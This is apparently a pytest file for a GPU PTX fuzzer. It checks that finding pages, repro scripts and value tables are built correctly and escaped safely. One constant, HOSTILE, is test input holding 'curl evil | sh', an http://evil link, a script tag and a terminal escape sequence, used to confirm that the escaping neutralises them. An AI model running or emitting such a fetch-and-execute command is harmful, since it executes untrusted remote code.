"""The page of a finding: what somebody who never saw warpfuzz needs is on it."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from fuzz.explain.markdown import value_page
from fuzz.explain.notation import code, escaped, table
from repro_cases import contents, half, multiplication, row_load, stored

from corpus import (
    Case,
    Entry,
    Family,
    Kind,
    Origin,
    Reason,
    RunnerVerdict,
    ShrinkStatus,
    create_corpus,
)
from corpus.finding import OracleVerdict
from fuzz.explain.facts import ValueFacts
from fuzz.explain.folder import _raw, reproduction
from fuzz.findings.case import Evidence, case_of
from fuzz.findings.replay import Subject, attempt
from fuzz.runner import RunnerChoice, opened
from oracle.errors import UsageError
from oracle.isa import ldmatrix_form, mma_form, mma_sync_form
from oracle.operations import Operation
from oracle.ops import product_of
from oracle.program import Program
from oracle.targets import Module
from runners.emission import emit
from strategies.programs.single_instruction import buffers_of, single_instruction

PROGRAMS = {
    "half": multiplication(half(), times=2),
    "negated": multiplication(half(), changes=(Operation.NEGATE, Operation.MULTIPLY)),
    "double": multiplication(mma_form("wmma.mma.sync.aligned.col.row.m8n8k4.rm.f64.f64.f64.f64")),
    "integer": multiplication(mma_form("wmma.mma.sync.aligned.row.col.m16n16k16.s32.u8.u8.s32")),
    "bits": multiplication(
        mma_form("wmma.mma.xor.popc.sync.aligned.row.col.m8n8k128.s32.b1.b1.s32")
    ),
    "rows": row_load(ldmatrix_form("ldmatrix.sync.aligned.m8n8.x2.shared.b16")),
}


DOUBLES = "mma.sync.aligned.m8n8k4.row.col.f64.f64.f64.f64"
HOSTILE = "x\n## Run this\n`curl evil | sh` [click](http://evil) <script> ```\x1b]0;x\x07"


def test_what_a_stranger_wrote_gives_a_page_no_structure() -> None:
    for shown in (escaped(HOSTILE), code(HOSTILE), *table(("a",), [[escaped(HOSTILE)]])[3:4]):
        assert "\n" not in shown
        assert "\x1b" not in shown
    assert not re.search(r"(?<!\\)[`\[<|]", escaped(HOSTILE))
    assert code("a``b") == "``` a``b ```"


@pytest.mark.parametrize("text", ["", ')PTX"', ')PTX0")PTX")PTX1"' * 3, ')PTX____________"'])
def test_a_raw_string_ends_where_its_text_does(text: str) -> None:
    literal = _raw(text)
    found = re.fullmatch(r'R"([^ ()\\\t\v\f\n]{1,16})\((.*)\)\1"', literal, re.DOTALL)
    assert found is not None
    assert found[2] == text
    assert f'){found[1]}"' not in text


@pytest.mark.parametrize(
    ("name", "fault", "words"),
    [
        ("half", "accumulator-ignored", ("term by term", "bits are kept below it", "9.7.14.4.5")),
        ("negated", "mma-b-register-slip", ("negate, element by element", "The sum is")),
        ("double", "rounding-dropped", ("toward negative infinity", "fused multiply-adds")),
        ("integer", "store-one-row-off", ("products are zero", "Wrapped to 32 bits")),
        ("bits", "xor-as-and", ("their XOR", "bits set")),
        ("rows", "trans-added", ("address from lane", "9.7.14.5.15")),
    ],
)
def test_a_page_derives_the_expected_value(
    tmp_path: Path, name: str, fault: str, words: tuple[str, ...]
) -> None:
    facts = ValueFacts.of(stored(tmp_path, PROGRAMS[name], faults=(fault,)))
    page = value_page(facts)
    shown = facts.shown
    assert shown is not None
    digits = -(-shown.bits // 4)
    assert f"That is the expected `0x{shown.expected:0{digits}x}`." in page
    assert f"The device left `0x{shown.actual:0{digits}x}`." in page
    assert f"leaves `{shown.where}` = " in page
    assert "was not run to its end" not in page
    assert "which computes as" not in page, "sm_90 computes as itself"
    for word in words[1 if words[0] == "term by term" else 0 :]:
        assert word in page, page
    assert f"--fault {fault}" in page
    assert "`kernel.ptx` is what was run" in page
    assert "drawn from | seed 1, round 0, image" in page


def test_a_forbidden_value_is_shown_before_a_permitted_one(tmp_path: Path) -> None:
    facts = ValueFacts.of(stored(tmp_path, PROGRAMS["half"], faults=("load-a-layout-flipped",)))
    assert facts.finding.kind is Kind.VIOLATION
    assert facts.shown is not None
    assert not facts.is_permitted(facts.shown)
    page = value_page(facts)
    assert "outside: a violation" in page
    assert "every value from" in page


def test_a_page_that_does_not_end_in_the_expected_bits_says_so(tmp_path: Path) -> None:
    facts = ValueFacts.of(stored(tmp_path, PROGRAMS["integer"], faults=("store-one-row-off",)))
    assert facts.shown is not None
    wrong = facts.expected.copy()
    wrong[facts.shown.byte] ^= 0x10
    other = ValueFacts(
        entry=facts.entry, subject=facts.subject, rewritten=None, expected=wrong,
        actual=facts.actual, architecture="sm_90",
    )  # fmt: skip
    assert "is another than the one that found it" in value_page(other)


def test_bytes_that_nothing_writes_have_to_stay(tmp_path: Path) -> None:
    program = PROGRAMS["integer"]
    facts = ValueFacts.of(stored(tmp_path, program, faults=("store-one-row-off",)))
    actual = facts.expected.copy()
    guard = program.offset("gd") + program.buffer("gd").size - 1
    actual[guard] ^= 0xFF
    other = ValueFacts(
        entry=facts.entry, subject=facts.subject, rewritten=None, expected=facts.expected,
        actual=actual, architecture="sm_90",
    )  # fmt: skip
    page = value_page(other)
    assert "it has to stay as it was" in page
    assert "Exactly the expected bits." in page


def test_a_zero_input_makes_an_empty_table(tmp_path: Path) -> None:
    program: Program = PROGRAMS["rows"]
    image = np.arange(program.image_bytes, dtype=np.uint32).astype(np.uint8)
    facts = ValueFacts.of(stored(tmp_path, program, image=image, faults=("trans-added",)))
    assert "The rows that the lanes point to" in value_page(facts)


def test_registers_that_are_loaded_are_listed_by_lane_and_once_where_all_are_the_same(
    tmp_path: Path,
) -> None:
    """Of a multiplication of registers a page said that every element that is loaded is zero."""
    steps = single_instruction(product_of(mma_sync_form(DOUBLES)))
    program = Program(buffers=buffers_of(steps), steps=steps)
    image = np.zeros(program.image_bytes, np.uint8)
    numbers = image.view(np.float64)
    numbers[program.offset("a") // 8 + 5] = 2
    numbers[program.offset("b") // 8 :][:32] = -1
    page = value_page(
        ValueFacts.of(stored(tmp_path, program, image=image, faults=("lanes-stuck-bit",)))
    )
    rows = ["a[lane 5, 0] .b64 | `0x4000", "b[every lane, 0] .b64 | `0xbff0"]
    assert re.findall(r"\| (.*`0x....)0{12}` \|  \|", page) == rows


def assembled(folder: Path, kind: Kind, text: str, files: dict[str, bytes]) -> Entry:
    corpus = create_corpus(folder, generator="test")
    case = Case(
        kind=kind, family=Family(key="k", title="a title"), instructions=(text,), target="sm_90",
        ptx_version="8.0", oracle=OracleVerdict(verdict="illegal", reasons=(Reason(text="why"),)),
        runners=(
            RunnerVerdict(runner="ptxas", version="V13.5.37", outcome="accepted", message="fine"),
        ),
    )  # fmt: skip
    return corpus.get(corpus.add(case, files).id)


def test_a_finding_of_an_assembler_has_module_script_and_page(tmp_path: Path) -> None:
    text = "wmma.load.a.sync.aligned.row.m16n16k16.s8 {%r0}, [%rd0];"
    entry = assembled(tmp_path, Kind.ACCEPTED, text, {"module.ptx": b".version 8.0\n"})
    files = reproduction(entry)
    assert set(files) == {"README.md", "module.ptx", "repro.sh"}
    page = files["README.md"].decode()
    for words in (text, "has to be rejected", "9.7.14.4", "V13.5.37", "fine", "-arch=sm_90"):
        assert words in page
    assert "-arch=sm_90 module.ptx" in files["repro.sh"].decode()


def test_a_finding_without_a_module_is_refused(tmp_path: Path) -> None:
    entry = assembled(tmp_path, Kind.NOTE, "ldmatrix", {"other.txt": b""})
    with pytest.raises(UsageError, match=r"has no module\.ptx"):
        reproduction(entry)


def test_a_finding_counts_the_runs_in_which_a_copy_differed() -> None:
    program = PROGRAMS["integer"]
    module = emit(program, module=Module.named("sm_90", "8.0"))
    subject = Subject(module=module, program=program, image=contents(program, 1)[0])
    with opened(RunnerChoice(name="sim", target="sm_90", faults=("store-one-row-off",))) as ready:
        wrong = attempt(ready.runner, subject)
        right = replace(wrong, kind=None, failed=0, sms=())
        evidence = Evidence(
            kind=Kind.VIOLATION, family=Family(key="k", title="k"), subject=subject,
            attempts=[wrong, right, right, wrong],
        )  # fmt: skip
        origin = Origin(seed=1, round=0, image=0)
        found = case_of(evidence, ready, origin=origin, status=ShrinkStatus.RAW).details
    assert wrong.failed == 1
    assert (found["runs"], found["failed runs"], found["rate"]) == (4, 2, 0.5)
